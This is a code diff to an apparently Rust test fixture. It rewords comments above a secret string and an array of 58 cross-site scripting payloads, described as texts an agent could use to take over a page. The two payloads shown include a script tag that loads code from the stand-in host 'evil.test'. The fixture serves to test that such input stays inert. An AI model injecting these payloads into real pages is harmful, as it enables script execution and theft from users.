@@ -1,9 +1,10 @@
-//! What an agent could say to take over a page: small, and of every kind.
+//! Texts with which an agent could try to take over a page: small, and of every kind.
 
-/// A word that is to be read by nobody but the owner.
+/// A word that only the owner may read.
 pub(super) const SECRET: &str = "the-word-that-only-the-owner-knows";
 
-/// Each sets `window.hit`, opens a dialog, asks another host, or makes an element, if it is ever more than text.
+/// If one of these is ever more than text, it sets `window.hit`, opens a dialog, calls another host, or creates an
+/// element.
 pub(super) const SCRIPTS: [&str; 58] = [
     "<script>window.hit=1</script>",
     "<script src=//evil.test/x.js></script>",
